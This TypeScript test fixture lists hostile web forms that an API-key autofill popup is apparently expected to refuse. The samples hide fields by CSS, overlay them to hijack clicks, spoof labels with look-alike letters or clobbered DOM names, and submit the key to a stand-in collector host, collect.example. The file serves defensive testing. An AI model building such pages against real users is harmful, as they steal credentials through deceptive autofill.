import { html, type Markup } from './markup.ts';
import { input, type PlatformForm, page, row, surroundings } from './platform-page.ts';
import { rename, shade } from './platform-script.ts';

/** A page on which nothing may be filled, or nothing but what says that it wants something. */
export interface HostileForm extends PlatformForm {
  /** A part of what the popup says about it. */
  readonly says: string;
  /** Whether the popup offers to fill it all the same, and leaves the hostile part. */
  readonly offered: boolean;
  /** Whether it is served without TLS. */
  readonly plain?: true;
}

const host = 'connect.platform.example';
const unseen = 'that cannot be seen';

export const hostileForms: readonly HostileForm[] = [
  { ...refused('http', row('API key', 'key'), 'over https only'), host: 'plain.example', plain: true },
  refused('not rendered', html`<div style="display: none">${row('API key', 'key')}</div>`, 'No API key here'),
  refused('invisible', html`<div style="visibility: hidden">${row('API key', 'key')}</div>`, unseen),
  refused(
    'off the page',
    html`<div style="position: absolute; left: -9999px">${row('API key', 'key')}</div>`,
    unseen,
  ),
  refused(
    'fixed below the window',
    html`<div style="position: fixed; top: 3000px">${row('API key', 'key')}</div>`,
    unseen,
  ),
  refused('transparent', html`<div style="opacity: 0">${row('API key', 'key')}</div>`, unseen),
  refused(
    'almost transparent',
    html`<div style="opacity: .2"><div style="opacity: .2">${row('API key', 'key')}</div></div>`,
    unseen,
  ),
  refused(
    'made transparent by a filter',
    html`<div style="filter: opacity(2%)">${row('API key', 'key')}</div>`,
    unseen,
  ),
  refused(
    'without a size',
    row('API key', 'key', undefined, html`style="width: 1px; height: 1px; padding: 0; border: 0"`),
    unseen,
  ),
  refused(
    'clipped',
    html`<div style="position: relative; height: 80px"><div style="position: absolute; clip-path: inset(100%)">${row('API key', 'key')}</div></div>`,
    'cannot be clicked',
  ),
  refused(
    'covered',
    html`<div style="position: relative">${row('API key', 'key')}<div style="position: absolute; inset: 0; background: #fff">Terms</div></div>`,
    'cannot be clicked',
  ),
  refused(
    'covered by something transparent',
    html`<div style="position: relative">${row('API key', 'key')}<div style="position: absolute; inset: 0"></div></div>`,
    'cannot be clicked',
  ),
  refused('read only', row('API key', 'key', undefined, html`readonly`), 'cannot be typed into'),
  refused('disabled', html`<fieldset disabled>${row('API key', 'key')}</fieldset>`, 'cannot be typed into'),
  refused('inert', html`<div inert>${row('API key', 'key')}</div>`, 'cannot be typed into'),
  refused(
    'two fields for a key',
    html`${row('API key', 'key')}${row('API token', 'token')}`,
    'more than one API key',
  ),
  refused(
    'label of another field',
    html`<label for="far">API key</label>${input('key')}<div style="display: none">${input('far')}</div>`,
    unseen,
  ),
  refused(
    'label that cannot be seen',
    html`<label for="key" style="display: none">API key</label><p>Comment</p>${input('key')}`,
    'No API key here',
  ),
  refused(
    'two names',
    html`<label for="key">Public comment</label>${input('key', undefined, html`aria-label="API key"`)}`,
    'two names',
  ),
  refused('letters of another script', row('АРI Кеу', 'key'), 'No API key here'),
  refused('a stranger’s key', row('OpenAI API key', 'key'), 'No API key here'),
  refused(
    'text that can be edited',
    html`<p>API key</p><div contenteditable="true" id="key">here</div>`,
    'No API key here',
  ),
  refused(
    'a closed shadow root',
    html`<div id="closed"></div><script>document.querySelector('#closed').attachShadow({mode:'closed'}).innerHTML='<label>API key <input></label>'</script>`,
    'No API key here',
  ),
  {
    ...refused('sent to another site', html``, 'to another site than'),
    page: form('https://collect.example/', html``),
  },
  {
    ...refused('sent to another site by its button', html``, 'to another site than'),
    page: form('/', html`<button formaction="https://collect.example/">Save</button>`),
  },
  ...[
    {
      name: 'sent to another site by the form that it belongs to',
      markup: html`<form><h1>Freshdesk</h1>${row('API key', 'key', undefined, html`form="out"`)}</form>
<form id="out" action="https://collect.example/"><input name="getAttribute"><input name="baseURI"><button>Save</button></form>`,
    },
    {
      name: 'sent to another site by a button elsewhere',
      markup: html`<form id="here"><h1>Freshdesk</h1>${row('API key', 'key')}</form>
<button form="here" formaction="https://collect.example/">Save</button>`,
    },
    {
      name: 'sent to another site by an image elsewhere',
      markup: html`<form id="here"><h1>Freshdesk</h1>${row('API key', 'key')}</form>
<input type="image" alt="Save" form="here" formaction="https://collect.example/">`,
    },
    {
      name: 'sent to another site by a button of the form that it belongs to',
      markup: html`<form><h1>Freshdesk</h1>${row('API key', 'key', undefined, html`form="out"`)}</form><form id="out"></form>
<input type="submit" form="out" formaction="https://collect.example/">`,
    },
    {
      name: 'sent to another site by a form whose fields are called as what it is asked for',
      markup: html`<form action="https://collect.example/"><h1>Freshdesk</h1>${row('API key', 'key')}
<input name="action" value="/"><input name="elements"><input name="getAttribute"><input name="querySelectorAll"></form>`,
    },
    {
      name: 'sent to another site out of a shadow root in a dialog',
      markup: html`<div role="dialog"><h1>Freshdesk</h1><shadow-part><template data-root><form action="https://collect.example/">${row('API key', 'key')}</form></template></shadow-part></div>`,
    },
  ].map(({ name, markup }) => ({
    ...refused(name, html``, 'to another site than'),
    page: page({ title: 'Freshdesk', body: markup, script: shade }),
  })),
  {
    ...refused('a frame of another site', html``, 'comes from other.example'),
    page: framed('https://other.example/inner-elsewhere'),
    frames: { '/inner-elsewhere': form('/', html``) },
  },
  {
    ...refused('a frame of a vendor', html``, 'comes from acme.freshdesk.com'),
    page: framed('https://acme.freshdesk.com/form-in-a-frame'),
    frames: { '/form-in-a-frame': form('/', html``) },
  },
  {
    ...refused('a frame without an origin', html``, 'No API key here'),
    page: page({
      title: 'Freshdesk',
      body: html`${surroundings}<iframe sandbox="allow-scripts" srcdoc="${form('/', html``).html}"></iframe>`,
    }),
  },
  {
    ...refused('another name on focus', html``, 'Nothing was filled'),
    offered: true,
    page: page({
      title: 'Freshdesk',
      body: html`${surroundings}<form><h1>Freshdesk</h1>${row('API key', 'key', undefined, html`data-renames="focus"`)}</form>`,
      script: rename,
    }),
  },
  {
    ...refused('another name once another field is filled', html``, 'API key is left: the page changed it'),
    offered: true,
    page: page({
      title: 'Freshdesk',
      body: html`${surroundings}<form><h1>Freshdesk</h1>${row('Name', 'name', 'name', html`data-renames="input"`)}${row('API key', 'key')}</form>`,
      script: rename,
    }),
  },
  {
    ...refused('look-alikes around a good form', html``, 'API key filled'),
    offered: true,
    page: page({
      title: 'Freshdesk',
      body: html`${surroundings}<form><h1>Freshdesk</h1>${row('Subdomain', 'sub', 'subdomain')}${row('API key', 'key', 'key')}
<div style="position: absolute; left: -5000px">${row('API key', 'k2')}${row('Password', 'p2', undefined, html`type="password"`)}</div>
<div style="opacity: 0">${row('Name', 'n3')}</div><input type="hidden" id="k4" aria-label="API key">
${row('Name', 'n5')}${row('Name', 'n6')}${row('User name', 'u7')}${row('Card number', 'c8')}</form>
<shadow-part><template data-root><div style="height: 0; overflow: hidden">${row('API key', 'k9')}</div></template></shadow-part>`,
      script: shade,
    }),
  },
];

function refused(name: string, fields: Markup, says: string): HostileForm {
  return {
    name,
    host,
    vendor: 'freshdesk',
    says,
    offered: false,
    page: page({
      title: 'Freshdesk',
      body: html`${surroundings}<main><h1>Connect Freshdesk</h1>${fields}${row('Tag', 'tag')}</main>`,
    }),
  };
}

function form(action: string, more: Markup): Markup {
  return page({
    title: 'Freshdesk',
    body: html`<form action="${action}"><h1>Freshdesk</h1>${row('Subdomain', 'sub')}${row('API key', 'key')}${more}</form>`,
  });
}

function framed(src: string): Markup {
  return page({
    title: 'Freshdesk',
    body: html`${surroundings}<main><h1>Freshdesk</h1><iframe src="${src}"></iframe></main>`,
  });
}
